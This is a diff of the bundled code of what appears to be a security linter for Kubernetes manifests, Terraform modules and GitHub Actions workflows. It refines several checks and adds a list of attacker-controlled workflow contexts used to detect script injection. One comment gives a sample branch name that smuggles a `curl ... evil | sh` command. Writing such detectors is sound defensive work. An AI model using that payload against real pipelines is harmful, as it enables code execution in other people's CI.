             for (const c of containersOf(pod, ['initContainers', 'containers'])) {
                 const setting = containerSetting(c, 'readOnlyRootFilesystem');
-                if (setting?.value === true)
+                if (k8sBoolean(c.pod.object, setting) === true)
                     continue;
                 const what = describeContainer(c);
                 if (setting) {
@@ -34582,7 +35856,7 @@ const k8sRunAsRoot = (0,types/* defineEvaluator */.D)({
                 if (typeof user?.value === 'number' && user.value > 0)
                     continue;
                 const nonRoot = containerSetting(c, 'runAsNonRoot') ?? podSetting(pod, 'runAsNonRoot');
-                if (nonRoot?.value === true)
+                if (k8sBoolean(pod.object, nonRoot) === true)
                     continue;
                 if (nonRoot) {
                     once(nonRoot, () => findingAt(pod, nonRoot, `${what(nonRoot)} sets runAsNonRoot to ${JSON.stringify(nonRoot.value)} and no non-zero runAsUser, ` +
@@ -34771,8 +36045,8 @@ const REPLICATED = new Set(['Deployment', 'StatefulSet', 'ReplicaSet']);
  * is a workload switched off on purpose, a Deployment with the `Recreate` strategy a singleton by
  * design, manifests of development, demo and quick-start environments (or built only for them) need
  * none, and a computed value is not judged. One whose name marks a staging or release-test
- * environment (`-staging`, `-releasetest`) or an optional dashboard (`-dashboard`), and one whose
- * Services expose only monitoring ports (metrics, profiling, probes), are reported at low confidence.
+ * environment (`-staging`, `-releasetest`) or an optional dashboard or admin UI (`-dashboard`,
+ * `-operator-ui`), and one whose Services expose only monitoring ports (metrics, profiling, probes), are reported at low confidence.
  */
 const k8sSingleReplica = (0,types/* defineEvaluator */.D)({
     kind: 'k8s.single-replica',
@@ -34780,6 +36054,7 @@ const k8sSingleReplica = (0,types/* defineEvaluator */.D)({
     schema: NO_OPTIONS,
     evaluate({ workspace }) {
         const objects = k8sObjects(workspace);
+        noteKindFixtures(workspace, objects.filter((o) => REPLICATED.has(o.kind)));
         const scaled = new Set(objects.flatMap(scaleTarget));
         const overlaid = kustomizeReplicas(workspace);
         const services = objects.flatMap(serviceSelector);
@@ -34837,7 +36112,7 @@ const k8sSingleReplica = (0,types/* defineEvaluator */.D)({
             }
             // An optional admin or read-only UI (`argo-dashboard`): an outage hides a UI from operators, it
             // serves no user. Its name is the repository's, so the finding is lowered, not dropped.
-            if (finding.confidence !== 'low' && object.name && DASHBOARD_NAME_WORD.test(object.name)) {
+            if (finding.confidence !== 'low' && object.name && namesDashboard(object.name)) {
                 finding.message += ` (But its name, "${object.name}", marks an optional dashboard, an admin or read-only UI: an outage hides it from operators and serves no user.)`;
                 finding.confidence = 'low';
             }
@@ -34912,8 +36187,19 @@ function namesPath(word, file) {
         return true;
     return /[*?[{]/.test(word) && (0,workspace_glob/* pathMatcher */.kZ)(word)(file);
 }
-/** A word of a workload's name that marks an optional admin or read-only UI (`rollouts-dashboard`). */
-const DASHBOARD_NAME_WORD = /(?:^|[-_.])dashboard(?:$|[-_.\d])/i;
+/**
+ * A workload's name that marks an optional admin or read-only UI: the word `dashboard`
+ * (`rollouts-dashboard`), or a user-interface word (`ui`, `gui`, `console`) with a word that says
+ * whose it is, the administrators' or the operators' (`admin-ui`, `postgres-operator-ui`,
+ * `kafka-admin-console`). A UI word alone (`shop-ui`, `web-console`) may be the product's own
+ * front end, which serves its users.
+ */
+function namesDashboard(name) {
+    const words = new Set(name.toLowerCase().split(/[-_.\d]+/));
+    if (words.has('dashboard'))
+        return true;
+    return ['ui', 'gui', 'console'].some((w) => words.has(w)) && (words.has('admin') || words.has('operator'));
+}
 /**
  * Words of a Service port's name that mark a monitoring endpoint: metrics scraped by Prometheus
  * (`metrics`, `http-metrics`), Go's profiler (`http-profiling`, `pprof`) and health probes
@@ -36080,6 +37366,29 @@ function inputDecider(files) {
     }
     return decider;
 }
+const LIBRARY_MODULES = new WeakMap();
+/**
+ * Whether a file's module is one of a repository of reusable modules that no configuration of the
+ * tree deploys: it configures no provider and no backend, no module block outside test and example
+ * paths calls it by a local path, and no directory outside those paths configures a provider or a
+ * backend. Its callers are elsewhere (examples call it by its registry address), and they choose it
+ * among the repository's modules.
+ */
+function libraryModule(files) {
+    let library = LIBRARY_MODULES.get(files);
+    if (!library) {
+        const configuring = files.filter(configuresRoot);
+        const roots = new Set(configuring.map((f) => f.module));
+        const all = configuring.every((f) => (0,confidence/* inTestPaths */.kU)(f.path));
+        const deployed = new Set(files
+            .flatMap(localCalls)
+            .filter((c) => !(0,confidence/* inTestPaths */.kU)(c.caller.path))
+            .map((c) => c.module));
+        library = (file) => all && !(0,confidence/* inTestPaths */.kU)(file.path) && !roots.has(file.module) && !deployed.has(file.module);
+        LIBRARY_MODULES.set(files, library);
+    }
+    return library;
+}
 /** A file that configures a provider, or a backend (`terraform { backend … }` or `cloud`). */
 function configuresRoot(file) {
     return file.body.blocks.some((b) => b.type === 'provider' ||
@@ -36101,129 +37410,8 @@ function localCalls(caller) {
     });
 }
 
-;// CONCATENATED MODULE: ./lib/core/parsers/terraform-values.js
-/**
- * What a reference to a module's own values stands for: `local.<name>` is the value its `locals`
- * block assigns, and `var.<name>` is its `default` (what Terraform uses when nothing sets the
- * variable). Checks judge `storage_encrypted = var.encrypted` with `default = false` as they judge
- * `storage_encrypted = false`.
- *
- * Only a whole value that is one such reference is replaced (`var.x`, `"${var.x}"`, and the items
- * of a list); anything computed from it (`var.x ? 1 : 0`, `"${var.x}-a"`) stays unknown. A variable
- * without a default is still unknown where it is used. Variables set by `.tfvars` files, the command
- * line or a module's callers are not seen, so a default reads as what it is: the value of every use
- * that does not set it. Where the callers of a reusable module set it, that is only a default
- * ({@link inputOf} tells a value made from one; terraform-modules.ts, whether its callers decide).
- */
-/** A reference to a module's variable or local, written bare or as the only interpolation. */
-const terraform_values_REFERENCE = /^(?:"\$\{\s*)?(var|local)\.([A-Za-z_][\w-]*)(?:\s*\}")?$/;
-/** Locals may name other locals; a cycle (an error to Terraform) or a long chain stays unknown. */
-const MAX_HOPS = 8;
-const RESOLVERS = new WeakMap();
-/** The values a resolver made from a variable's default, with the variable's name. */
-const INPUTS = new WeakMap();
-/**
- * The name of the variable whose default a resolved value is (directly, through locals, or as an
- * item of a list default); undefined for a literal written in place or a local's own value.
- */
-function inputOf(value) {
-    return INPUTS.get(value);
-}
-/**
- * A resolver for the files (one per parse, shared by every rule): `resolve(file, value)` is the
- * value with references to the module's variables (their defaults) and locals replaced, keeping the
- * span of the reference (a finding stays where the value is used) and saying in `text` where the
- * value came from: `var.encrypted (default false)`.
- */
-function valueResolver(files) {
-    let resolver = RESOLVERS.get(files);
-    if (!resolver) {
-        const scopes = moduleScopes(files);
-        resolver = (file, value) => resolve(scopes.get(file.module), value, 0);
-        RESOLVERS.set(files, resolver);
-    }
-    return resolver;
-}
-function moduleScopes(files) {
-    const scopes = new Map();
-    for (const file of files) {
-        let scope = scopes.get(file.module);
-        if (!scope) {
-            scope = { variables: new Map(), locals: new Map() };
-            scopes.set(file.module, scope);
-        }
-        for (const block of file.body.blocks) {
-            if (block.type === 'variable' && block.labels.length === 1) {
-                const d = block.body.attributes.find((a) => a.name === 'default');
-                if (d)
-                    scope.variables.set(block.labels[0], d.value);
-            }
-            else if (block.type === 'locals') {
-                for (const a of block.body.attributes)
-                    scope.locals.set(a.name, a.value);
-            }
-        }
-    }
-    return scopes;
-}
-function resolve(scope, value, hops) {
-    if (!scope || hops >= MAX_HOPS)
-        return value;
-    if (value.kind === 'tuple') {
-        const items = value.items.map((i) => resolve(scope, i, hops));
-        return items.every((i, n) => i === value.items[n]) ? value : { ...value, items };
-    }
-    const found = follow(scope, value, 0);
-    if (!found)
-        return value;
-    const inner = found.value.kind === 'tuple' ? resolve(scope, found.value, hops + 1) : found.value;
-    if (inner.kind === 'expression' || inner.kind === 'template') {
-        // A local that holds a reference (`aws_s3_bucket.logs.id`): known as text, still not a literal.
-        return { ...inner, span: value.span };
-    }
-    const origin = found.variable !== undefined ? `default ${inner.text}` : inner.text;
-    const resolved = relocate(inner, value, `${value.text.trim()} (${origin})`);
-    if (found.variable !== undefined) {
-        INPUTS.set(resolved, found.variable);
-        if (resolved.kind === 'tuple')
-            for (const item of resolved.items)
-                INPUTS.set(item, found.variable);
-    }
-    return resolved;
-}
-/**
- * The value a reference stands for, through chains of locals; undefined when it is not one.
- * `variable`: the variable whose default it is, when it is one.
- */
-function follow(scope, value, hops) {
-    if (value.kind !== 'expression' && value.kind !== 'template')
-        return undefined;
-    const m = terraform_values_REFERENCE.exec(value.text.trim());
-    if (!m || hops >= MAX_HOPS)
-        return undefined;
-    const [, kind, name] = m;
-    const target = (kind === 'var' ? scope.variables : scope.locals).get(name);
-    if (!target)
-        return undefined;
-    const further = follow(scope, target, hops + 1);
-    return further ?? (kind === 'var' ? { value: target, variable: name } : { value: target });
-}
-/** The resolved value at the reference's place: a list's items too, so each finding points there. */
-function relocate(v, at, text) {
-    if (v.kind === 'tuple') {
-        const ref = at.text.trim();
-        return { ...v, span: at.span, text, items: v.items.map((i) => relocate(i, at, `${ref} (${i.text})`)) };
-    }
-    return { ...v, span: at.span, text };
-}
-/** A body with every attribute value resolved, nested blocks included (for checks that read many). */
-function resolveBody(resolve, file, body) {
-    return {
-        attributes: body.attributes.map((a) => ({ ...a, value: resolve(file, a.value) })),
-        blocks: body.blocks.map((b) => ({ ...b, body: resolveBody(resolve, file, b.body) })),
-    };
-}
-
+// EXTERNAL MODULE: ./lib/core/parsers/terraform-values.js
+var terraform_values = __nccwpck_require__(3503);
 ;// CONCATENATED MODULE: ./lib/core/evaluators/terraform/emulator.js
 
 
@@ -36235,6 +37423,11 @@ function resolveBody(resolve, file, body) {
  * Such configurations are integration tests and labs: nothing they declare exists in an AWS account.
  * The endpoint of the resource's own service must be redirected: a provider that sends only `sts` to
  * the emulator still creates its buckets in AWS.
+ *
+ * Both must hold whatever the variable files say: a value that comes from a variable holds only when
+ * its default and every value the folder's variable files (`terraform.tfvars`, `*.auto.tfvars`) give
+ * it hold, and a file that cannot be read may set anything (see `valueCandidates`). Emulator-looking
+ * defaults that `terraform.tfvars` turns to the real AWS endpoint lower nothing.
  */
 /** Resource types whose service's endpoint key is not the type's second word. */
 const SERVICES = [
@@ -36282,7 +37475,10 @@ const EMULATORS = new WeakMap();
 function localEmulator(files) {
     let emulated = EMULATORS.get(files);
     if (!emulated) {
-        const resolve = valueResolver(files);
+        const resolve = (0,terraform_values/* valueResolver */.K_)(files);
+        const candidates = (0,terraform_values/* valueCandidates */._E)(files);
+        // True when every value `value` may take is a literal that `holds`.
+        const always = (file, value, holds) => candidates(file, value).every((v) => holds((0,terraform/* literal */.eu)(resolve(file, v))));
         // Each module's `aws` providers, by alias ('' for the default one).
         const providers = new Map();
         for (const file of files) {
@@ -36312,12 +37508,14 @@ function localEmulator(files) {
                 return undefined;
             const { file, block } = provider;
             const skip = (0,terraform/* attribute */.lt)(block.body, 'skip_credentials_validation');
-            if (!skip || (0,terraform/* literal */.eu)(resolve(file, skip.value)) !== true)
+            if (!skip || !always(file, skip.value, (v) => v === true))
                 return undefined;
             for (const endpoints of (0,terraform/* nestedBlocks */.qk)(block.body, 'endpoints')) {
                 const endpoint = (0,terraform/* attribute */.lt)(endpoints.body, service);
-                const url = endpoint ? (0,terraform/* literal */.eu)(resolve(file, endpoint.value)) : undefined;
-                if (typeof url === 'string' && localEndpoint(url))
+                if (!endpoint || !always(file, endpoint.value, (v) => typeof v === 'string' && localEndpoint(v)))
+                    continue;
+                const url = (0,terraform/* literal */.eu)(resolve(file, endpoint.value));
+                if (typeof url === 'string')
                     return url;
             }
             return undefined;
@@ -36390,7 +37588,7 @@ function examineSubjects(workspace, subjects) {
  * deployed resource. Any other finding is returned as it is.
  */
 function atInputDefault(finding, file, value, callersDecide) {
-    const variable = inputOf(value);
+    const variable = (0,terraform_values/* inputOf */.wg)(value);
     if (variable === undefined || !callersDecide(file, variable))
         return finding;
     return {
@@ -36464,6 +37662,7 @@ const terraformAttribute = (0,types/* defineEvaluator */.D)({
                             },
                         },
                         explain: { type: 'string', minLength: 1 },
+                        variants: { type: 'boolean' },
                     },
                 },
             },
@@ -36471,12 +37670,26 @@ const terraformAttribute = (0,types/* defineEvaluator */.D)({
     },
     async evaluate({ options, workspace }) {
         const files = await (0,terraform/* terraformFiles */.yd)(workspace);
-        const resolve = valueResolver(files);
+        const resolve = (0,terraform_values/* valueResolver */.K_)(files);
         const emulated = localEmulator(files);
         const callersDecide = inputDecider(files);
+        const library = libraryModule(files);
         const findings = [];
         const subjects = [];
         for (const target of options.targets) {
+            let variants;
+            // Another module of a library of modules whose resource of the type sets the attribute.
+            const variantOf = (resource) => {
+                if (!library(resource.file))
+                    return undefined;
+                variants ??= new Map();
+                if (!variants.has(resource.type)) {
+                    const setting = (0,terraform/* terraformResources */.EZ)(files, [resource.type]).find((r) => library(r.file) && offersAttribute(r, target));
+                    variants.set(resource.type, setting?.file.module);
+                }
+                const module = variants.get(resource.type);
+                return module !== undefined && module !== resource.file.module ? module : undefined;
+            };
             const defaulted = target.defaultFrom !== undefined && declaresDefault(files, target.defaultFrom, resolve);
             for (const resource of (0,terraform/* terraformResources */.EZ)(files, target.resources)) {
                 subjects.push(resource);
@@ -36484,7 +37697,7 @@ const terraformAttribute = (0,types/* defineEvaluator */.D)({
                 if (skipped(resource.block, target, resolved))
                     continue;
                 const endpoint = emulated(resource);
-                for (const f of check(resource, target, defaulted, resolved, callersDecide)) {
+                for (const f of check(resource, target, defaulted, resolved, callersDecide, variantOf)) {
                     findings.push(onEmulator(endpoint, f));
                 }
             }
@@ -36493,7 +37706,7 @@ const terraformAttribute = (0,types/* defineEvaluator */.D)({
         return findings;
     },
 });
-function check(resource, target, defaulted, resolved, callersDecide) {
+function check(resource, target, defaulted, resolved, callersDecide, variantOf = () => undefined) {
     const steps = target.attribute.split('.');
     const name = steps.pop();
     const findings = [];
@@ -36508,7 +37721,17 @@ function check(resource, target, defaulted, resolved, callersDecide) {
     const holders = holdersAt(resource.block, steps);
     if (holders.length === 0) {
         if (target.missing === 'report' && !defaulted) {
-            findings.push(finding(`does not set ${target.attribute}${wanted}`, resource.block.typeSpan, true));
+            const unset = finding(`does not set ${target.attribute}${wanted}`, resource.block.typeSpan, true);
+            // A library's module without the setting, beside one of its modules with it: a variant its
+            // callers choose (a public cluster beside the private one), not what a deployment of it runs.
+            const variant = target.variants === true && target.expect !== undefined ? variantOf(resource) : undefined;
+            findings.push(variant === undefined
+                ? unset
+                : {
+                    ...unset,
+                    message: `${unset.message.slice(0, -1)} (a module of a library of modules that its callers choose among: ${variant}/ offers ${target.attribute}, and which variant to use is theirs to decide).`,
+                    confidence: 'low',
+                });
         }
         return findings;
     }
@@ -36580,6 +37803,21 @@ function declaresDefault(files, d, resolve) {
         const attr = (0,terraform/* attribute */.lt)(r.block.body, d.attribute);
         const value = attr && (0,terraform/* literal */.eu)(resolve(r.file, attr.value));
         return value !== undefined && value !== null && (0,terraform/* sameLiteral */.af)(value, d.value);
+    });
+}
+/**
+ * Whether a resource offers a target's attribute: sets it to the expected value, or to an expression
+ * (an input variable, whatever its default) that lets its callers set it.
+ */
+function offersAttribute(resource, target) {
+    const steps = target.attribute.split('.');
+    const name = steps.pop();
+    return holdersAt(resource.block, steps).some((holder) => {
+        const attr = (0,terraform/* attribute */.lt)(holder.body, name);
+        if (!attr)
+            return false;
+        const value = (0,terraform/* literal */.eu)(attr.value);
+        return value === undefined || (value !== null && (0,terraform/* sameLiteral */.af)(value, target.expect));
     });
 }
 
@@ -36868,12 +38106,12 @@ const terraformOpenIngress = (0,types/* defineEvaluator */.D)({
         const findings = [];
         const resources = (0,terraform/* terraformResources */.EZ)(files, open_ingress_RESOURCE_TYPES);
         examineSubjects(workspace, resources);
-        const resolve = valueResolver(files);
+        const resolve = (0,terraform_values/* valueResolver */.K_)(files);
         const emulated = localEmulator(files);
         const callersDecide = inputDecider(files);
         for (const declared of resources) {
             // Sources and ports given by a local or a variable's default are judged as if written here.
-            const body = resolveBody(resolve, declared.file, declared.block.body);
+            const body = (0,terraform_values/* resolveBody */.bq)(resolve, declared.file, declared.block.body);
             const resource = { ...declared, block: { ...declared.block, body } };
             for (const rule of ingressRules(resource)) {
                 const exposed = exposedPorts(rule.ports, options.ports);
@@ -37160,7 +38398,7 @@ const terraformS3Encryption = (0,types/* defineEvaluator */.D)({
     schema: { type: 'object', additionalProperties: false, properties: {} },
     async evaluate({ workspace }) {
         const files = await (0,terraform/* terraformFiles */.yd)(workspace);
-        const resolve = valueResolver(files);
+        const resolve = (0,terraform_values/* valueResolver */.K_)(files);
         const coverage = new Map();
         for (const sse of (0,terraform/* terraformResources */.EZ)(files, [SSE_RESOURCE]))
             covered(coverage, sse, resolve);
@@ -38197,7 +39435,11 @@ function pushesWithSecret(workspace, workflow, job, step) {
     }
     if (!secret)
         return undefined;
-    const pusher = laterPusher(workspace, job.steps, step, false);
+    // An action that commits and pushes a branch to open a pull request pushes too.
+    const pusher = laterPusher(workspace, job.steps, step, false) ??
+        job.steps
+            .slice(job.steps.indexOf(step) + 1)
+            .find((s) => workflow_publishing/* PULL_REQUEST_ACTIONS */.Cs.has((0,shared/* actionPathOf */.ps)(s.uses) ?? ''));
     return pusher ? { secret, step: `step "${(0,shared/* stepLabel */.vO)(pusher)}"` } : undefined;
 }
 
@@ -39754,6 +40996,144 @@ function conditionalOnRelease(step) {
     return typeof c === 'string' && /github\.(ref|ref_name|ref_type|event_name)\b|startsWith\s*\(/i.test(c);
 }
 
+;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/contexts.js
+/**
+ * Which expression contexts an outsider controls, and how much. Written from GitHub's webhook payload
+ * documentation: a value is listed when someone without write access can choose it (by opening a
+ * pull request, an issue, a comment, a discussion, or by naming a branch or writing a commit message
+ * in a fork). Everything else — SHAs, numbers, ids, booleans, logins and repository names (whose
+ * alphabet cannot carry shell or script syntax), values set by maintainers — is not a source. Labels
+ * are such values: only people with the triage role or above create a repository's labels and put
+ * them on issues and pull requests (an issue form applies only labels that already exist).
+ *
+ * - `arbitrary`: free text, or a git name that can carry shell syntax without spaces
+ *   (`a";curl${IFS}evil|sh;#` is a valid branch name).
+ * - `structured`: a value with a validated syntax (a URL, an account e-mail address) that still
+ *   admits characters a shell or script interprets.
+ */
+const COMMIT = ['message', 'author.name', 'author.email', 'committer.name', 'committer.email'];
+const ARBITRARY = [
+    'github.head_ref',
+    'github.event.pull_request.title',
+    'github.event.pull_request.body',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.head.repo.description',
+    'github.event.pull_request.head.repo.default_branch',
+    'github.event.pull_request.auto_merge.commit_title',
+    'github.event.pull_request.auto_merge.commit_message',
+    'github.event.issue.title',
+    'github.event.issue.body',
+    'github.event.comment.body',
+    'github.event.comment.path',
+    'github.event.comment.diff_hunk',
+    'github.event.review.body',
+    'github.event.discussion.title',
+    'github.event.discussion.body',
+    'github.event.answer.body',
+    'github.event.changes.**',
+    ...COMMIT.map((f) => `github.event.head_commit.${f}`),
+    ...COMMIT.map((f) => `github.event.commits.*.${f}`),
+    ...COMMIT.map((f) => `github.event.merge_group.head_commit.${f}`),
+    'github.event.pages.*.page_name',
+    'github.event.pages.*.title',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.display_title',
+    'github.event.workflow_run.head_repository.description',
+    'github.event.workflow_run.pull_requests.*.head.ref',
+    ...COMMIT.map((f) => `github.event.workflow_run.head_commit.${f}`),
+    'github.event.check_suite.head_branch',
+    ...COMMIT.map((f) => `github.event.check_suite.head_commit.${f}`),
+    'github.event.check_run.check_suite.head_branch',
+    // repository_dispatch: bots commonly forward comment or pull request text here.
+    'github.event.client_payload.**',
+];
+const STRUCTURED = [
+    'github.event.pull_request.head.repo.homepage',
+    'github.event.workflow_run.head_repository.homepage',
+    'github.event.pusher.email',
+];
+/**
+ * Values that name the code of a pull request (its head commit, branch or fork), used to recognise a
+ * checkout of untrusted code in privileged workflows.
+ */
+const HEAD = [
+    'github.head_ref',
+    'github.event.pull_request.head.sha',
+    'github.event.pull_request.head.ref',
+    'github.event.pull_request.head.label',
+    'github.event.pull_request.merge_commit_sha',
+    'github.event.pull_request.head.repo.full_name',
+    'github.event.pull_request.head.repo.clone_url',
+    'github.event.pull_request.head.repo.ssh_url',
+    'github.event.pull_request.head.repo.git_url',
+    'github.event.pull_request.head.repo.html_url',
+    'github.event.workflow_run.head_sha',
+    'github.event.workflow_run.head_branch',
+    'github.event.workflow_run.head_commit.id',
+    'github.event.workflow_run.head_repository.full_name',
+    'github.event.workflow_run.head_repository.clone_url',
+    'github.event.workflow_run.pull_requests.*.head.sha',
+    'github.event.workflow_run.pull_requests.*.head.ref',
+    'github.event.check_suite.head_sha',
+    'github.event.check_suite.head_branch',
+];
+const compile = (list, capability) => list.map((p) => ({ segments: p.split('.'), capability }));
+const INJECTABLE = [...compile(ARBITRARY, 'arbitrary'), ...compile(STRUCTURED, 'structured')];
+const HEAD_PATTERNS = compile(HEAD, 'arbitrary');
+/** How attacker-controlled a context path is, or undefined when it is not a source. */
+function classifyContext(path) {
+    return classifyWith(INJECTABLE, path);
+}
+/** Whether a context path names the head (code) of a pull request or of a triggering run. */
+function classifyHeadRef(path) {
+    return classifyWith(HEAD_PATTERNS, path);
+}
+function classifyWith(patterns, path) {
+    let exact;
+    let contained;
+    for (const p of patterns) {
+        const m = match(p.segments, path);
+        if (m === 'exact')
+            exact = worst(exact, p.capability);
+        else if (m === 'prefix')
+            contained = worst(contained, p.capability);
+    }
+    // A filter (`.*`) turns a value into an array of such values.
+    const filtered = path.includes('*');
+    if (exact)
+        return { capability: exact, collection: filtered };
+    if (contained)
+        return { capability: contained, collection: true };
+    return undefined;
+}
+/** `exact` when the path is the pattern, `prefix` when it is an object that contains it. */
+function match(pattern, path) {
+    for (let i = 0; i < path.length; i++) {
+        const want = pattern[i];
+        if (want === undefined)
+            return undefined;
+        if (want === '**')
+            return 'exact';
+        const got = path[i];
+        if (want === '*') {
+            if (got !== '*' && got !== '#' && got !== '?' && !/^\d+$/.test(got))
+                return undefined;
+            continue;
+        }
+        // A filter (`github.event.*.body`) or a computed index reaches every key, this one included;
+        // not a free-form payload (`client_payload.**`), whose keys are anyone's guess.
+        if (got === '*' && pattern[i + 1] === '**')
+            return undefined;
+        if (got !== want && got !== '?' && got !== '*')
+            return undefined;
+    }
+    return path.length === pattern.length ? 'exact' : 'prefix';
+}
+function worst(a, b) {
+    return a === 'arbitrary' || b === 'arbitrary' ? 'arbitrary' : 'structured';
+}
+
 ;// CONCATENATED MODULE: ./lib/core/evaluators/workflow/fixed-commands.js
 
 /**
@@ -39783,7 +41163,8 @@ const SCRIPT_FILE = {
     mawk: /^(?:-[a-zA-Z]*f.*|--file(?:=.*)?)$/,
 };
 /**
- * What `git` and `go` may do in such a run: read the checkout's history and set options (no fetch, push,
+ * What `git` and `go` may do in such a run: read the checkout's history, list or set local branches
+ * (`branch`: it runs no hook and talks to no remote) and set options (no fetch, push,
  * clone or submodule, which write to the checkout or the remote; no hook-running commit), list a
  * remote's refs (`ls-remote`: it reads refs only, writes nothing and runs nothing, and the
  * credentials git may send with it go only to the host that issued them; not with
@@ -39791,7 +41172,7 @@ const SCRIPT_FILE = {
  * which builds and runs nothing).
  */
 const FIXED_SUBCOMMANDS = {
-    git: /^(?:config|diff|diff-tree|diff-index|merge-base|log|rev-parse|rev-list|status|show|describe|ls-files|ls-tree|cat-file|name-rev|ls-remote)$/,
+    git: /^(?:config|branch|diff|diff-tree|diff-index|merge-base|log|rev-parse|rev-list|status|show|describe|ls-files|ls-tree|cat-file|name-rev|ls-remote)$/,
     go: /^mod$/,
 };
 /** Options that make git run a program of their naming. */
@@ -39884,7 +41265,8 @@ const ACTIONS = {
     'actions/stale': { issues: W, 'pull-requests': W },
     'actions/first-interaction': { issues: W, 'pull-requests': W },
     'actions/dependency-review-action': (s) => (0,shared/* input */.hF)(s, 'comment-summary-in-pr') ? { contents: R, 'pull-requests': W } : { contents: R },
-    'actions/configure-pages': { pages: W },
+    // It reads the site's settings; it creates the site (a write) only when told to (`enablement`).
+    'actions/configure-pages': (s) => (0,shared/* input */.hF)(s, 'enablement') && !(0,shared/* isFalse */.Wu)((0,shared/* input */.hF)(s, 'enablement')) ? { pages: W } : { pages: R },
     'actions/upload-pages-artifact': scopes_NONE,
     'actions/deploy-pages': { pages: W, 'id-token': W },
     'actions/attest-build-provenance': { 'id-token': W, attestations: W, contents: R },
@@ -40074,6 +41456,8 @@ const TOKEN_BY_DEFAULT = {
     // Its `github-token` input, from v0.0.2 (the first pre-release had no default; minor versions are
     // the finest this table tells apart).
     'actions/publish-immutable-action': [0, 0],
+    // Its `token` input (`${{ github.token }}`), with which it builds a GitHub Pages site, from v1.
+    'actions/jekyll-build-pages': [1, 0],
     // Widely used actions of other owners whose token input has defaulted to the job's token from
     // their first major version (`token`, `github-token`): they list or annotate a pull request's files.
     'tj-actions/changed-files': [1, 0],
@@ -40344,6 +41728,7 @@ function stepName(step) {
 
 
 
+
 /**
  * `actions/checkout` keeps the job's token on disk unless `persist-credentials: false` (before v6 in
  * `.git/config` of the checkout, from v6 in a file under `$RUNNER_TEMP` that `.git/config` includes),
@@ -40483,11 +41868,12 @@ function finding(workspace, fixes, source, job, step, upstream) {
         !persistsSshKey(step) &&
         later.length > 0 &&
         (token
-            ? later.every((s) => idleStep(s) !== undefined || givenCredential(s, token, job.env, workflow?.env))
-            : later.every((s) => idleStep(s) !== undefined || givenJobToken(workspace, source.path, s, job.env, workflow?.env)));
+            ? later.every((s) => idleStep(s, job, workflow) !== undefined || givenCredential(s, token, job.env, workflow?.env))
+            : later.every((s) => idleStep(s, job, workflow) !== undefined ||
+                givenJobToken(workspace, source.path, s, job.env, workflow?.env)));
     const idle = held
         ? later.flatMap((s) => {
-            const why = idleStep(s);
+            const why = idleStep(s, job, workflow);
             return why ? [{ step: s, why }] : [];
         })
         : [];
@@ -40736,7 +42122,7 @@ function checkout_credentials_grants(sources, workflow, job, seen, via) {
             continue;
         for (const j of caller.jobs) {
             const ref = j.uses && (0,parsers_uses/* parseUses */.A)(j.uses.value);
-            if (ref?.kind !== 'local' || localPath(ref.path) !== workflow.path)
+            if (ref?.kind !== 'local' || checkout_credentials_localPath(ref.path) !== workflow.path)
                 continue;
             const name = via ?? `job "${j.id}" of ${caller.path}, which calls this workflow,`;
             out.push(...checkout_credentials_grants(sources, caller, j, chain, name));
@@ -40747,7 +42133,7 @@ function checkout_credentials_grants(sources, workflow, job, seen, via) {
     return out;
 }
 /** `./.github/workflows/x.yml` -> `.github/workflows/x.yml`, as the workspace lists files. */
-function localPath(path) {
+function checkout_credentials_localPath(path) {
     return path
         .split('/')
         .filter((s) => s !== '.' && s !== '')
@@ -40785,11 +42171,14 @@ const IDLE_ACTIONS = new Set([
  * pipe, list or redirection: plain words and `$VARIABLE`s only.
  */
 const GIT_CONFIG_LINE = /^git[ \t]+config(?:[ \t]+[^\s;&|<>`\\()]+)*$/;
-/** {@link noUseOfCredentials}, once per step (a job's checkouts ask about the same later steps). */
-function idleStep(step) {
+/**
+ * {@link noUseOfCredentials}, once per step (a job's checkouts ask about the same later steps). The
+ * job and workflow tell where a `${{ env.NAME }}` in its script gets its value ({@link fixedValue}).
+ */
+function idleStep(step, job, workflow) {
     let why = checkout_credentials_IDLE.get(step);
     if (why === undefined) {
-        why = noUseOfCredentials(step) ?? null;
+        why = noUseOfCredentials(step, job, workflow) ?? null;
         checkout_credentials_IDLE.set(step, why);
     }
     return why ?? undefined;
@@ -40798,15 +42187,19 @@ const checkout_credentials_IDLE = new WeakMap();
 /**
  * Why a step can make no use of the credentials a checkout leaves on disk, or undefined: one of
  * GitHub's artifact and cache actions ({@link IDLE_ACTIONS}), or a `run:` of fixed `git config`
- * commands in the default shell.
+ * commands or of fixed programs in the default shell. An expression in the script is substituted
+ * into it before it runs: only one whose value no outsider and no code of the repository chooses
+ * ({@link fixedValue}: a secret, a variable, a value GitHub sets) leaves the script fixed.
  */
-function noUseOfCredentials(step) {
+function noUseOfCredentials(step, job, workflow) {
     const action = (0,shared/* actionPathOf */.ps)(step.uses);
     if (action && IDLE_ACTIONS.has(action))
         return `is GitHub's ${action}, which runs no code of the repository and talks to no git remote`;
     // `${{ github.workspace }}` is the checkout's root, as `$GITHUB_WORKSPACE` is: no outsider writes it.
     const run = typeof step.run?.value === 'string'
-        ? step.run.value.replace(WORKSPACE_EXPRESSION, '$GITHUB_WORKSPACE')
+        ? step.run.value
+            .replace(WORKSPACE_EXPRESSION, '$GITHUB_WORKSPACE')
+            .replace(checkout_credentials_EXPRESSION, (whole, inner) => fixedValue(inner, step, job, workflow) ? '$FIXED_VALUE' : whole)
         : undefined;
     const shell = typeof step.shell?.value === 'string' ? step.shell.value.trim() : undefined;
     if (typeof run !== 'string' || run.includes('${{') || (shell !== undefined && !/^(?:bash|sh)$/.test(shell)))
@@ -40828,6 +42221,47 @@ function noUseOfCredentials(step) {
     return runs.every((c) => confinedContainer(c.program))
         ? `runs only fixed commands and containers that mount no more than a subfolder of the checkout (${runs.map((c) => `"${c.program[imageIndex(c.program)].text}"`).join(', ')}), which neither hold the token's file nor .git`
         : undefined;
+}
+const checkout_credentials_EXPRESSION = /\$\{\{([^}]*)\}\}/g;
+/**
+ * Whether the value of an expression (its text inside `${{ }}`) is chosen by no outsider and by no
+ * code of the repository, so that substituting it into a script leaves the script as fixed as its
+ * text: a secret or a variable (`secrets.NAME`, `vars.NAME`: set by maintainers), a value of the
+ * `github` context that no outsider can choose (contexts.ts: SHAs, numbers, refs of this repository,
+ * a release's tag; not an event's text, a head branch, nor a manual run's inputs), or
+ * `env.NAME` whose every source is such a value: the `env:` entries the step sees, and the writes to
+ * `$GITHUB_ENV` of earlier steps of the job, which are read only when every earlier step is
